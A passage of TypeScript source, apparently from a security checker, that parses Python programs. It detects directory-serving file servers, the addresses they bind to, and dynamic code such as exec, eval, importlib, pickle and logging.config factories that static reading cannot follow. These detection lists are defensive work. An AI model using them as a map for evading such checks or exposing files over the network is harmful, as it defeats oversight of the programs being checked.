    { callee: /(^|\.)SharedDataMiddleware$/, family: /\bwerkzeug\b/, argument: ["exports", 1], dictValues: true },
    { callee: /(^|\.)(Flask|Blueprint)$/, family: /\bflask\b/, argument: ["static_folder", 2], module: true },
    { callee: /^tornado\.web\.Application$/, family: /\btornado\b/, argument: ["static_path", undefined] },
    {
        callee: /^(?!werkzeug\.)(\w+\.)*send_from_directory$/,
        family: /\bflask\b/,
        argument: ["directory", 0],
        module: true,
    },
    { callee: /^werkzeug\.utils\.send_from_directory$/, family: /\bwerkzeug\b/, argument: ["directory", 0] },
];

/** Tornado's file-serving handler (tornado.web.StaticFileHandler, "A simple handler that can serve static content from a directory"). */
const TORNADO_STATIC_HANDLER = "tornado.web.StaticFileHandler";

/**
 * Python server constructors and runners and where each binds (its argument's name and position, `tuple` when that is
 * a `(host, port)` address; `otherwise` when not given: undefined, every address):
 * - socketserver "Server Creation Notes" / http.server: `HTTPServer(server_address, RequestHandlerClass)`,
 *   ThreadingHTTPServer, `TCPServer`, `ThreadingTCPServer`, `ForkingTCPServer` (Python 2's BaseHTTPServer,
 *   SocketServer), pyftpdlib's `FTPServer(address_or_socket, handler)` and its Threaded/Multiprocess kin; an empty host
 *   is INADDR_ANY (Python docs "socket": "the empty string represents INADDR_ANY");
 * - http.server's `test(HandlerClass, ServerClass, protocol, port, bind=None)` (its command line's main; None binds
 *   every address) and wsgiref "simple_server": `make_server(host, port, app)`;
 * - Twisted `reactor.listenTCP(port, factory, backlog=50, interface='')` and `TCP4ServerEndpoint(reactor, port,
 *   backlog=50, interface='')` ("interface: the local IPv4 or IPv6 address to which to bind; defaults to '', ie all
 *   IPv4 addresses"), `serverFromString(reactor, "tcp:PORT:interface=ADDR")`;
 * - aiohttp "Web Server Advanced": `run_app(app, host=None, ...)` ("Default is '0.0.0.0' if port has been specified
 *   or if path is not supplied"), `TCPSite(runner, host=None, port=None)`; uvicorn "Settings": `--host` "default
 *   127.0.0.1" (`uvicorn.run(app, host=...)`).
 */
const PYTHON_SERVER_BINDS: {
    callee: RegExp;
    argument: [string, number | undefined];
    tuple?: true;
    otherwise?: string;
}[] = [
    {
        callee: /^(http\.server|BaseHTTPServer|SimpleHTTPServer|CGIHTTPServer|socketserver|SocketServer|RangeHTTPServer|uploadserver)\.\w*(HTTP|TCP)Server$/,
        argument: ["server_address", 0],
        tuple: true,
    },
    { callee: /^pyftpdlib\.servers\.\w*FTPServer$/, argument: ["address_or_socket", 0], tuple: true },
    { callee: /^(http\.server|uploadserver|RangeHTTPServer)\.test$/, argument: ["bind", 4] },
    { callee: /^wsgiref\.simple_server\.make_server$/, argument: ["host", 0] },
    { callee: /(^|\.)(listenTCP|TCP4ServerEndpoint|TCP6ServerEndpoint)$/, argument: ["interface", 3] },
    { callee: /^aiohttp\.web\.run_app$|(^|\.)run_app$/, argument: ["host", undefined] },
    { callee: /(^|\.)TCPSite$/, argument: ["host", 1] },
    { callee: /^uvicorn\.run$/, argument: ["host", undefined], otherwise: "127.0.0.1" },
];

/**
 * The Python program a `python` command runs (pythonEntry: SCRIPT, `-m MODULE`, `-c CODE`, when user data wrote it)
 * with the modules user data wrote that it imports (pythonImportClosure); undefined when an entry file was changed
 * after it was written (its text unknown) or the command runs the flask CLI.
 */
function pythonProgram(
    args: readonly string[],
    cwd: string | undefined,
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
): { where: string; files: PythonFile[]; roots: string[] } | undefined {
    const entry = pythonEntry(args, cwd, fileText, view);
    if (entry === undefined || "flask" in entry || entry.files.some(f => view.changed.has(f.path))) return undefined;
    return { where: entry.label, ...pythonImportClosure(entry.files, entry.roots, fileText, view) };
}

/**
 * Python source with the contents of its string literals and comments blanked, same length (pythonPieces; Python
 * reference, "String and Bytes literals": a docstring or any other string is a value, never code); f-strings kept,
 * their fields being code.
 */
function pythonStringsBlanked(text: string): string {
    const blank = (t: string) => t.replace(/[^\n]/g, " ");
    return pythonPieces(text)
        .map(piece => {
            if (piece.kind === "comment") return blank(piece.text);
            if (piece.kind === "code" || piece.formatted) return piece.text;
            const quote = /^("""|'''|"|')/.exec(piece.text)?.[0] ?? "";
            const closed = piece.text.length >= 2 * quote.length && piece.text.endsWith(quote);
            const inner = piece.text.slice(quote.length, closed ? piece.text.length - quote.length : undefined);
            return quote + blank(inner) + (closed ? quote : "");
        })
        .join("");
}

/**
 * A file's Python calls, nested ones too (one level of parentheses inside): the callee as its imports resolve it.
 * Calls are found outside string literals (pythonStringsBlanked: a docstring showing a call is not one); `call`, the
 * argument text, keeps the strings its readers take as values.
 */
function pythonCalls(text: string): { name: string; callee: string; call: string; index: number }[] {
    const names = pythonNames(text);
    // Found in the code with its strings blanked (same length), arguments nested to any depth (`Flask(__name__,
    // static_folder=os.path.join(os.path.dirname(__file__), ".."))`), the argument text taken from the original.
    const code = pythonStringsBlanked(text);
    return [...code.matchAll(/(?<![\w.])(?<!\bdef\s+)([A-Za-z_][\w.]*)\s*\(/g)].flatMap(m => {
        const start = m.index + m[0].length;
        const inner = parenthesized(code, start - 1);
        return inner === undefined
            ? []
            : [
                  {
                      name: m[1],
                      callee: pythonResolve(m[1], names).name,
                      call: text.slice(start, start + inner.length),
                      index: m.index,
                  },
              ];
    });
}

/** `text` split at each `separator` outside strings and brackets, the parts trimmed (empty ones dropped). */
function pythonSplit(text: string, separator: string): string[] {
    const parts: string[] = [];
    let start = 0;
    for (const i of pythonTopLevel(text))
        if (text[i] === separator) {
            parts.push(text.slice(start, i));
            start = i + 1;
        }
    parts.push(text.slice(start));
    return parts.map(part => part.trim()).filter(part => part !== "");
}

/**
 * Python the readers cannot follow, which may bind any module-level name (and change anything else, the working
 * directory too): one table, by the name the file's imports and aliases resolve it to (pythonResolve: `from builtins
 * import exec as run`, `g = globals`, `(exec)(...)`, `import __main__ as self`). Built-in Functions: exec/eval/compile
 * run code "in the current scope" (at module level "globals and locals are the same dictionary"), globals() is "the
 * dictionary implementing the current module namespace", locals()/vars() likewise at module level, setattr/delattr and
 * `__import__(__name__)` reach the module object; "__main__ — Top-level code environment" (`import __main__` is the
 * running script, its attributes its globals); sys.modules ("a dictionary that maps module names to modules"),
 * sys._getframe/inspect frames ("f_globals is the dictionary used by the frame to look up global variables"),
 * function.__globals__, `__dict__`/`__setattr__` (Data model), builtins/runpy (any of the above by another name), and
 * importlib's members (import_module, reload, util.spec_from_file_location/module_from_spec, machinery loaders, ...
 * load modules by computed names or run code) but the harmless ones, an allowlist of documented functions and classes:
 * importlib.metadata's ("provides access to installed package metadata": version, metadata, files, requires,
 * distribution(s), packages_distributions, ...) but its entry points (EntryPoint.load imports the object it names) and
 * its other module globals (CPython importlib/metadata/__init__.py does `from importlib import import_module`:
 * importlib.metadata.import_module is importlib's), and importlib.resources' (files, as_file, read_text, ...), whose
 * anchor "a module object or a module name as a string" it imports: a string literal one is read as that import
 * (pythonNames modules), any other anchor as dynamic (PYTHON_RESOURCE_ANCHOR). Either module itself used as a value
 * (`getattr(md, name)`) is dynamic; `from importlib import metadata` binds it, its uses read. What a
 * `from M import a` binds is M.a (M itself for `*` or an item the pack does not read); a plain `import M` binds M,
 * whose uses are read. A string naming one of them given to getattr (`getattr(builtins, "exec")`) too. Round 67: imp,
 * importlib's predecessor (Python 3.9 docs "imp": load_source "Load and initialize a module implemented as a Python
 * source file", load_module, reload, ...); the evaluators of annotations (Python docs "typing.get_type_hints": "forward
 * references encoded as string literals are handled by evaluating them in globals and locals namespaces", ForwardRef,
 * inspect.get_annotations(eval_str=True), annotationlib, typing_extensions'), string annotations other evaluators
 * reach being read as code (pythonStringAnnotations); the module logging.config but dictConfig, whose configuration is
 * read (pythonLoggingConfigUnread: its "()" factories, "class" and ext:// names import and call any object, Python docs
 * "logging.config" "User-defined objects", "Access to external objects"; DictConfigurator, BaseConfigurator.resolve,
 * fileConfig and listen unread).
 */
const PYTHON_DYNAMIC_BUILTINS = String.raw`exec|eval|compile|globals|locals|vars|setattr|delattr|__import__|__builtins__`;
const PYTHON_DYNAMIC_NAMES = new RegExp(
    String.raw`^(?:${PYTHON_DYNAMIC_BUILTINS}|builtins|__main__|importlib(?!\.metadata\.(?:version|metadata|files|requires|distributions?|packages_distributions|PackageNotFoundError|PackageMetadata|PackagePath|Distribution)(?:\.|$)|\.resources\.(?:files|as_file|read_text|read_binary|open_text|open_binary|path|contents|is_resource|Package|Anchor|Resource|ResourceReader|abc)(?:\.|$))|runpy|sys\.(?:modules|_getframe|meta_path|path_hooks|path_importer_cache)|inspect\.(?:currentframe|stack|getouterframes|getmembers|getattr_static|get_annotations)|imp|typing\.(?:get_type_hints|ForwardRef|_eval_type|evaluate_forward_ref)|typing_extensions\.(?:get_type_hints|get_annotations|ForwardRef|evaluate_forward_ref)|annotationlib|operator\.(?:attrgetter|methodcaller)|ctypes|_ctypes|cffi|pkgutil\.resolve_name|pydoc|timeit|cProfile|_lsprof|profile|pdb|bdb|trace|code|codeop|doctest|unittest\.mock|mock|pickle|_pickle|cPickle|shelve|marshal|types\.(?:FunctionType|LambdaType|CodeType)|logging\.config(?!\.dictConfig$))(?:\.|$)`,
);
/** The PYTHON_DYNAMIC_NAMES a file reaches without importing them: built-in functions (Python "Built-in Functions"). */
const PYTHON_DYNAMIC_UNIMPORTED = new RegExp(String.raw`^(?:${PYTHON_DYNAMIC_BUILTINS})(?:\.|$)`);
const PYTHON_DYNAMIC_ATTRIBUTES =
    /^(?:__dict__|__setattr__|__kwdefaults__|__defaults__|__code__|__closure__|__delattr__|__getattribute__|__globals__|__builtins__|__import__|f_globals|f_locals|f_back|modules|_getframe|entry_points|EntryPoints?)$/;
/** importlib.resources functions taking an anchor; the anchors that import none or a module named by a literal. */
const PYTHON_RESOURCE_CALL = /^importlib\.resources\.(?!abc\b|as_file$)\w+$/;
const PYTHON_RESOURCE_ANCHOR = /^\s*(?:|__name__|__package__|(["'])[\w.]+\1)\s*(?:,|$)/;
/** Blanks between Python tokens: spaces, tabs, a backslash joining the next line (Python reference "Explicit line joining"). */
const PYTHON_GAP = String.raw`(?:[ \t]|\\\n)`;
/**
 * Python import statements, the one reading of them (pythonNames, pythonDynamic, pythonFileServerListeners), in code
 * with its strings blanked (pythonStringsBlanked): `from M import ...` (M, the items) and `import ...`, at a statement's
 * start: a line's, after `;`, or after a compound statement's header colon (Python reference "Compound statements": "A
 * suite can be one or more semicolon-separated simple statements on the same line as the header", `if x: from os import
 * chdir`). Keywords are tokens, no blank is needed between them and `*`, `(` or `.` ("The import statement": `from os
 * import*`, `from os import(chdir)`, `from .import m`).
 */
const PYTHON_FROM_IMPORT = new RegExp(
    String.raw`(?:^|[;:])${PYTHON_GAP}*from(?!\w)${PYTHON_GAP}*(\.*[\w.]*)${PYTHON_GAP}*(?<!\w)import(?!\w)${PYTHON_GAP}*(\([^)]*\)|(?:\\\n|[^\n#;])*)`,
    "gm",
);
const PYTHON_IMPORT = new RegExp(
    String.raw`(?:^|[;:])${PYTHON_GAP}*import(?!\w)${PYTHON_GAP}*((?:\\\n|[^\n#;])*)`,
    "gm",
);
const PYTHON_DYNAMIC_CACHE = new Map<string, boolean>();
/** Whether Python source has code of PYTHON_DYNAMIC_NAMES or _ATTRIBUTES (comments and strings skipped). */
function pythonDynamic(text: string): boolean {
    const cached = PYTHON_DYNAMIC_CACHE.get(text);
    if (cached !== undefined) return cached;
    const names = pythonNames(text);
    const source = pythonCode(text);
    let code = pythonStringsBlanked(source);
    const ascii = !/[\u0080-\uffff]/.test(code.replace(/^\uFEFF/, ""));
    // Import statements: what each `from M import a` binds (M.a; M for `*`, none or an item not read), then blanked
    // (an `import M` binds M: its uses are read below).
    const fromImported: string[] = [];
    const blank = (m: RegExpMatchArray) => {
        const at = m.index ?? 0;
        code = code.slice(0, at) + m[0].replace(/[^\n]/g, " ") + code.slice(at + m[0].length);
    };
    for (const m of [...code.matchAll(PYTHON_FROM_IMPORT)]) {
        const items = m[2]
            .replace(/[()\\]/g, " ")
            .split(",")
            .map(item => item.trim());
        const read = items.filter(item => item !== "").map(item => /^(\w+)(?:\s+as\s+\w+)?$/.exec(item)?.[1]);
        if (read.length === 0 || read.some(item => item === undefined)) fromImported.push(m[1]);
        for (const item of read) {
            const full = item === undefined ? "" : m[1].endsWith(".") ? m[1] + item : `${m[1]}.${item}`;
            if (item !== undefined && !/^importlib\.(?:metadata|resources)$/.test(full)) fromImported.push(full);
        }
        blank(m);
    }
    for (const m of [...code.matchAll(PYTHON_IMPORT)]) blank(m);
    const tokens = [...code.matchAll(/(?<![\w.])[A-Za-z_]\w*(?:[ \t]*\.[ \t]*[A-Za-z_]\w*)*/g)];
    const dotted = tokens.map(m => m[0].replace(/[ \t]/g, ""));
    const words = [...code.matchAll(/(?<!\w)[A-Za-z_]\w*/g)].map(m => m[0]);
    // One named by a string given to getattr and its kin: `getattr(builtins, "exec")`, `getattr(sys, "modules")`.
    const strings = [...source.matchAll(/(["'])([\w.]*)\1/g)].map(m => m[2]);
    // An importlib.resources function given an anchor other than a literal module name (or this module's), or named
    // but not called (`f = importlib.resources.files`), by its imports (an assigned name is what a call returned).
    const imported = { ...names, assigned: new Map<string, string>() };
    const anchor = (m: RegExpMatchArray) => {
        if (!PYTHON_RESOURCE_CALL.test(pythonResolve(m[0].replace(/[ \t]/g, ""), imported).name)) return false;
        const open = (m.index ?? 0) + m[0].length;
        const args = /^\s*\(/.test(code.slice(open)) ? parenthesized(source, code.indexOf("(", open)) : undefined;
        return args === undefined || !PYTHON_RESOURCE_ANCHOR.test(args);
    };
    const dynamic =
        // A non-ASCII character in code: identifiers are read "using the Unicode character database" and "converted
        // into the normal form NFKC while parsing" (Python reference "Identifiers and keywords": `cd_é` one name,
        // fullwidth `ｏｓ` is os), which the readers' ASCII names do not follow (fail closed; a leading BOM is none).
        !ascii ||
        fromImported.some(d => PYTHON_DYNAMIC_NAMES.test(d)) ||
        dotted.some(d => {
            const resolved = pythonResolve(d, names);
            // A module's name is its own only imported (or through a star import): `code = 200` is no code module.
            const reached =
                resolved.imported || names.stars.length > 0 || PYTHON_DYNAMIC_UNIMPORTED.test(resolved.name);
            return (reached && PYTHON_DYNAMIC_NAMES.test(resolved.name)) || PYTHON_DYNAMIC_UNIMPORTED.test(d);
        }) ||
        tokens.some(anchor) ||
        pythonLoggingConfigUnread(source, code, tokens, names) ||
        pythonStringAnnotations(source).some(a => !PYTHON_TYPE_EXPRESSION.test(a)) ||
        words.some(w => PYTHON_DYNAMIC_ATTRIBUTES.test(w)) ||
        // Named by a string: a built-in, an attribute of any module the file imports (`getattr(pkgutil,
        // "resolve_name")`), a dotted name (`attrgetter("sys.modules")`).
        (/\b(?:getattr|attrgetter|methodcaller|__getattribute__)\b/.test(code) &&
            strings.some(
                x =>
                    PYTHON_DYNAMIC_UNIMPORTED.test(x) ||
                    PYTHON_DYNAMIC_ATTRIBUTES.test(x) ||
                    (x.includes(".") && PYTHON_DYNAMIC_NAMES.test(x)) ||
                    [...names.imports.values(), ...fromImported].some(v => PYTHON_DYNAMIC_NAMES.test(`${v}.${x}`)),
            ));
    if (PYTHON_DYNAMIC_CACHE.size >= 64)
        PYTHON_DYNAMIC_CACHE.delete(PYTHON_DYNAMIC_CACHE.keys().next().value as string);
    PYTHON_DYNAMIC_CACHE.set(text, dynamic);
    return dynamic;
}

/**
 * Whether a file's logging.config.dictConfig calls may import or call an object the pack does not read (Python docs
 * "logging.config", "Configuration dictionary schema": a "()" key names a factory, "resolved by its dotted name like
 * any import", called with the other keys; "class" the fully qualified name of a handler, formatter or filter class;
 * "Access to external objects": an `ext://` value resolves any importable object): a use other than a call, an argument
 * that is no dict display nor a name bound once to one (and used nowhere else: an item write may add any key), a "()"
 * key, a key that is no string literal, a `**` spread, implicit or `+` string concatenation, an f-string, a "class" not
 * of logging or logging.handlers, an ext:// other than sys.stdout/stderr (fail closed). `code` is `source` with its
 * strings blanked and its import statements blanked (pythonDynamic), `tokens` its dotted names.
 */
function pythonLoggingConfigUnread(
    source: string,
    code: string,
    tokens: readonly RegExpMatchArray[],
    names: PythonNames,
): boolean {
    // A literal's value: as written, escapes decoded when it has one (`"\x28)"` is "()").
    const literal = (text: string) => {
        const quote = /^("""|'''|"|')/.exec(text)?.[0] ?? "";
        const inner = text.slice(quote.length, text.length - quote.length);
        return inner.includes("\\") ? pythonStringLiteral(text) : inner;
    };
    const literalConfig = (dict: string): boolean => {
        const pieces = pythonPieces(dict);
        const blanked = pythonStringsBlanked(dict);
        if (/\*\*|\+|(?:^|[{,])\s*[A-Za-z_][\w.]*\s*:(?!=)/.test(blanked)) return false;
        for (const [i, piece] of pieces.entries()) {
            if (piece.kind !== "string") continue;
            const value = literal(piece.text);
            if (piece.formatted || value === undefined || value === "()") return false;
            if (/^\s*$/.test(pieces[i + 1]?.text ?? "x") && pieces[i + 2]?.kind === "string") return false;
            if (/^ext:\/\//.test(value) && !/^ext:\/\/sys\.(?:stdout|stderr)$/.test(value)) return false;
            if (value === "class" && /^\s*:\s*$/.test(pieces[i + 1]?.text ?? "")) {
                const cls = pieces[i + 2]?.kind === "string" ? literal(pieces[i + 2].text) : undefined;
                if (cls === undefined || !/^logging(?:\.handlers)?\.[A-Za-z_]\w*$/.test(cls)) return false;
            }
        }
        return true;
    };
    return tokens.some(m => {
        if (pythonResolve(m[0].replace(/[ \t]/g, ""), names).name !== "logging.config.dictConfig") return false;
        const open = (m.index ?? 0) + m[0].length;
        const args = /^\s*\(/.test(code.slice(open)) ? parenthesized(source, code.indexOf("(", open)) : undefined;
        const config = args === undefined ? undefined : pythonCallArguments(args).argument("config", 0)?.trim();
        if (config === undefined) return true;
        if (config.startsWith("{")) return !literalConfig(config);
        if (!/^[A-Za-z_]\w*$/.test(config)) return true;
        const bound = pythonLogicalStatements(source).filter(st =>
            new RegExp(String.raw`^${config}[ \t]*=(?!=)`).test(st.text),
        );
        const uses = [...code.matchAll(new RegExp(String.raw`(?<![\w.])${config}(?!\w)`, "g"))].length;
        const value = bound.length === 1 && bound[0].indent === 0 ? bound[0].text.replace(/^\w+\s*=\s*/, "") : "";
        return uses !== 2 || !value.startsWith("{") || !literalConfig(value);
    });
}

/**
 * The string annotations of a file (Python reference "Function definitions": a parameter's `: expression` and the
 * return's `-> expression`; "Annotated assignment statements" `NAME: expression`), the strings as written: code an
 * evaluator of annotations runs (typing.get_type_hints and whatever calls it: functools.singledispatch's register,
 * pydantic, ...; Python docs "typing.get_type_hints": string forward references are evaluated in the module's globals).
 */
function pythonStringAnnotations(source: string): string[] {
    const out: string[] = [];
    for (const st of pythonLogicalStatements(source)) {
        const def = /^(?:async[ \t]+)?def\b/.test(st.text);
        if (!def && (PYTHON_COMPOUND.test(st.text) || !/^[A-Za-z_][\w.]*[ \t]*:(?!=)/.test(st.text))) continue;
        // The code before each string, strings dropped (`x: "a" "b"` is one annotation).
        let before = "";
        for (const piece of pythonPieces(st.text)) {
            if (piece.kind !== "string") before += piece.text;
            else if ((def ? /(?:->|:)\s*[rRuUbBfF]*$/ : /^[A-Za-z_][\w.]*\s*:\s*[rRuUbBfF]*$/).test(before))
                out.push(piece.text);
        }
    }
    return out;
}
/** A string annotation that is a type expression only (names, subscripts, `|`, `...`, nested quotes), no call. */
const PYTHON_TYPE_EXPRESSION = /^[rRuUbB]?("|')[\w.[\], |'"\s-]*\1$/;

/**
 * The one reader of a name's assignments: the values each `NAME = VALUE` (or annotated `NAME: TYPE = VALUE`, Python
 * reference "Annotated assignment statements") statement gives `name` in `text`, in source order (pythonLogicalStatements:
 * one on a compound header's line too, `if x: NAME = ...`, `try: NAME = ...`; none from a line inside brackets), each
 * `top` when it runs unconditionally at module level (no indentation, no header before it on its line); undefined when
 * the name is also bound in a way the pack does not follow (an augmented `+=`, a walrus `:=`, a `for` or `with ... as`
 * target, unpacking `a, b = ...`, a chained `a = NAME = ...`, a function's parameter, an import beside an assignment,
 * any code of pythonDynamic (exec, globals, setattr, __main__, sys.modules, frames, ... by whatever name; eval's `:=`
 * too) or any other attribute write `X.NAME =` but a method's self's (a module's attributes are its globals: Python
 * reference "The import system"), `del NAME`, a `def`/`class NAME`, a `case` pattern naming it (Python reference "The
 * match statement": a capture pattern binds the subject to the name), a `from M import *` of a module but flask/werkzeug
 * ("The import statement": binds "all public names defined in the module")), so its value cannot be known (Python
 * reference, "Naming and binding": each of these binds the name).
 */
function pythonAssignments(text: string, name: string): { value: string; top: boolean }[] | undefined {
    const n = name.replace(/[.]/g, "\\.");
    const boundOtherwise = [
        new RegExp(`(?:^|[;(,:\\s])${n}[ \t]*(?:[-+*/%@&|^]|//|\\*\\*|>>|<<)=`, "m"),
        new RegExp(`\\b${n}[ \t]*:=`),
        new RegExp(`(?:^|[;:])[ \t]*(?:async[ \t]+)?for[ \t]+[^\n:]*\\b${n}\\b[^\n:]*[ \t]in\\b`, "m"),
        new RegExp(`\\bas[ \t]+\\(?[ \t]*${n}\\b`),
        new RegExp(`(?<!\\bself[ \t]*)\\.[ \t]*${n}[ \t]*(?:[-+*/%@&|^]|//|\\*\\*|>>|<<)?=(?!=)`),
        new RegExp(`(?:^|[;:])[ \t]*del[ \t][^\n;]*(?<![\\w.])${n}(?!\\w)`, "m"),
        new RegExp(`(?:^|[;:])[ \t]*(?:async[ \t]+)?(?:def|class)[ \t]+${n}(?!\\w)`, "m"),
    ];
    if (boundOtherwise.some(re => re.test(text)) || pythonDynamic(text)) return undefined;
    if (pythonNames(text).stars.some(m => !/^(flask|werkzeug)(\.|$)/.test(m))) return undefined;
    const word = new RegExp(`(?<![\\w.])${n}(?!\\w)`);
    const out: { value: string; top: boolean }[] = [];
    for (const st of pythonLogicalStatements(text)) {
        // A function's parameter (Python reference "Function definitions") binds the name in its body.
        const def = /^(?:async[ \t]+)?def[ \t]+\w+[ \t]*\(([\s\S]*)\)[\s\S]*:$/.exec(st.text);
        if (def && pythonSplit(def[1], ",").some(p => /^[*\s]*(\w+)/.exec(p)?.[1] === name)) return undefined;
        // A `case` pattern naming it (a capture, `case [NAME, _]:`, `case {"k": NAME}:`; a dotted value pattern does not).
        if (/^case\b[\s\S]*:$/.test(st.text) && word.test(st.text.replace(/(["'])(?:\\.|(?!\1).)*\1/g, "")))
            return undefined;
        const equals = pythonAssignOperators(st.text);
        if (equals.length === 0) continue;
        const targets = equals.map((at, k) => st.text.slice(k === 0 ? 0 : equals[k - 1] + 1, at).trim());
        const value = st.text.slice(equals.at(-1)! + 1).trim();
        if (targets.length === 1 && new RegExp(`^${n}[ \t]*(?::[\\s\\S]*)?$`).test(targets[0]))
            out.push({ value, top: st.indent === 0 && !st.suite });
        // Any other target naming it (unpacking, chained, a subscript of it): not followed.
        else if (targets.some(t => word.test(t.replace(/(["'])(?:\\.|(?!\1).)*\1/g, "")))) return undefined;
    }
    if (out.length > 0 && pythonNames(text).imports.has(name)) return undefined;
    return out;
}

/**
 * The value of a Python expression, names followed to what they are assigned in the file or in the module user data
 * wrote that they are imported from (`from settings import HOST`): the expression text and its file, undefined when
 * the pack cannot know it (a module it does not read, two different assignments, a name bound otherwise).
 */
function pythonValue(
    expr: string,
    file: { path: string; text: string },
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    depth = 0,
): { text: string; file: { path: string; text: string } } | undefined {
    const e = expr.trim();
    if (!/^[A-Za-z_][\w.]*$/.test(e) || /^(None|True|False)$/.test(e)) return { text: e, file };
    if (depth >= 8) return undefined;
    const resolved = pythonResolve(e, pythonNames(file.text));
    if (resolved.imported) {
        const dots = /^\.*/.exec(resolved.name)?.[0] ?? "";
        const parts = resolved.name.slice(dots.length).split(".");
        for (let k = parts.length - 1; k >= (dots === "" ? 1 : 0); k--) {
            const found = pythonModuleFile(dots + parts.slice(0, k).join("."), file.path, roots, fileText, view);
            if (found === undefined) continue;
            return found.text === null
                ? undefined
                : pythonValue(
                      parts.slice(k).join("."),
                      { path: found.path, text: found.text },
                      roots,
                      fileText,
                      view,
                      depth + 1,
                  );
        }
        return undefined;
    }
    if (e.includes(".")) return undefined;
    const assigned = pythonAssignments(file.text, e)?.map(a => a.value);
    if (!assigned?.length || assigned.some(a => a !== assigned[0]) || assigned[0] === e) return undefined;
    return pythonValue(assigned[0], file, roots, fileText, view, depth + 1);
}

/**
 * A Python string literal's value (no f-string fields), undefined for any other expression: its escape sequences
 * decoded as Python does (Python reference "String and Bytes literals": `\\xhh` "Character with hex value hh", `\\ooo`,
 * `\\uxxxx`/`\\Uxxxxxxxx` in str literals only, `\\N{name}`, a backslash-newline ignored, an unrecognized escape left
 * in the result; none in a raw `r"..."` literal); a named `\\N{...}` escape the pack does not decode: undefined.
 * Adjacent literals, on one line or continued across lines (inside brackets, or after a backslash), are one
 * ("String literal concatenation": "Multiple adjacent string or bytes literals (delimited by whitespace) ... their
 * meaning is the same as their concatenation"); str beside bytes (a SyntaxError) is none.
 */
const pythonString = (text: string | undefined): string | undefined => {
    const literals = (text ?? "").trim().match(/[rRuUbBfF]{0,2}(["'])[^"'{}]*\1|\s+|\\\n/g);
    if (literals === null || literals.join("") !== (text ?? "").trim()) return undefined;
    const parts = literals.filter(l => !/^\s*$|^\\\n$/.test(l));
    if (parts.length > 1) {
        // An escaped closing quote (`"a\\" "b"`) is no end of a literal: not read.
        if (parts.some(l => /(?<!\\)(?:\\\\)*\\["']$/.test(l))) return undefined;
        if (new Set(parts.map(l => /^[^"']*[bB]/.test(l))).size > 1) return undefined;
        const values = parts.map(l => pythonStringLiteral(l));
        return values.some(v => v === undefined) ? undefined : values.join("");
    }
    return pythonStringLiteral(text);
};

/** One Python string literal's value (pythonString). */
const pythonStringLiteral = (text: string | undefined) => {
    const m = /^([rRuUbBfF]{0,2})(["'])([^"'{}]*)\2$/.exec(text?.trim() ?? "");
    if (!m) return undefined;
    if (/r/i.test(m[1]) || !m[3].includes("\\")) return m[3];
    const bytes = /b/i.test(m[1]);
    const simple: Record<string, string> = { "\n": "", "\\": "\\", "'": "'", '"': '"', a: "\x07", b: "\b", f: "\f" };
    Object.assign(simple, { n: "\n", r: "\r", t: "\t", v: "\v" });
    let unknown = false;
    const value = m[3].replace(
        /\\(x[0-9a-fA-F]{2}|[0-7]{1,3}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|N\{[^}]*\}|[\s\S])/g,
        (all, esc: string) => {
            if (esc in simple) return simple[esc];
            if (/^[0-7]/.test(esc)) return String.fromCharCode(parseInt(esc, 8));
            if (/^x/.test(esc)) return String.fromCharCode(parseInt(esc.slice(1), 16));
            if (/^[uU][0-9a-fA-F]/.test(esc) && !bytes) {
                const code = parseInt(esc.slice(1), 16);
                if (code > 0x10ffff) unknown = true;
                return code > 0x10ffff ? "" : String.fromCodePoint(code);
            }
            if (/^N\{/.test(esc) && !bytes) unknown = true;
            return all;
        },
    );
    return unknown ? undefined : value;
};

/** Each combination of one value from each list (at most 64), mapped by `f`; undefined when one is. */
function pythonCombine(
    lists: readonly (readonly string[] | undefined)[],
    f: (parts: string[]) => string | undefined,
): string[] | undefined {
    if (lists.some(l => l === undefined)) return undefined;
    let combos: string[][] = [[]];
    for (const list of lists as string[][]) {
        combos = combos.flatMap(c => list.map(v => [...c, v]));
        if (combos.length > 64) return undefined;
    }
    const out = combos.map(f);
    return out.some(v => v === undefined) ? undefined : [...new Set(out as string[])];
}

/** os.path.join (posixpath.join): an absolute segment restarts, a `/` added only where the path does not end in one. */
const pythonOsJoin = (parts: readonly string[]) =>
    parts.reduce((path, b) => (b.startsWith("/") ? b : path === "" || path.endsWith("/") ? path + b : `${path}/${b}`));

/**
 * A pathlib path's text (Python docs pathlib "Pure paths": "Spurious slashes and single dots are collapsed, but double
 * dots ('..') ... are not, since this would change the meaning of a path in the face of symbolic links"): `..` kept
 * for the OS to resolve, a trailing slash dropped, "." for an empty relative path.
 */
const pathlibPath = (path: string) =>
    (path.startsWith("/") ? "/" : "") +
        path
            .split("/")
            .filter(part => part !== "" && part !== ".")
            .join("/") || ".";

/** os.path.dirname (posixpath.dirname): up to the last `/`, its trailing slashes dropped unless it is all slashes. */
const pythonDirname = (path: string) => {
    const head = path.slice(0, path.lastIndexOf("/") + 1);
    return /^\/*$/.test(head) ? head : head.replace(/\/+$/, "");
};

/**
 * The paths a Python expression may compute, when the pack can tell (each value a name may hold, in any order it may
 * be read): a string literal, a name (pythonAssignments: every value its assignments give it, a module-level
 * `NAME = f(NAME)` from the value before it, Python reference "Assignment statements"; else pythonValue through imports),
 * `__file__` (the module's own path), os.path.join/dirname/abspath/realpath/normpath (Python docs, os.path: join
 * "If a segment is an absolute path ... all previous segments are ignored"; abspath "equivalent to calling
 * normpath(join(os.getcwd(), path))"), os.getcwd() and Path.cwd() (the process's working directories `cwds`, when the
 * caller knows them), pathlib's `Path(X)`, `.parent`, `.parents[N]`, `.with_name(N)` (PurePath.with_name: "Return a
 * new path with the name changed"; ValueError for a path with no name), `.resolve()`/`.absolute()` and the `/`
 * operator, str `+` (Python reference "Binary arithmetic operations": sequences concatenate), `%` with `%s`
 * ("printf-style String Formatting"), str.format with `{}`/`{N}`/`{name}` fields ("Format String Syntax"), f-strings of
 * names, SEP.join of a list (str.join; os.sep is "/" on POSIX, Python docs "os.sep"), and `str(X)`. Undefined otherwise
 * (a directory the pack cannot know: fail closed); a relative result stays relative, for the caller's directory.
 */
function pythonPath(
    expr: string,
    file: { path: string; text: string },
    roots: readonly string[],
    fileText: ((path: string) => string | undefined) | undefined,
    view: ScriptView,
    cwds: readonly (string | undefined)[] | undefined,
    depth = 0,
    env: ReadonlyMap<string, readonly string[]> = new Map(),
): string[] | undefined {
    if (depth > 24) return undefined;
    const e = expr.trim();
    const again = (x: string, f = file, en: ReadonlyMap<string, readonly string[]> = env) =>
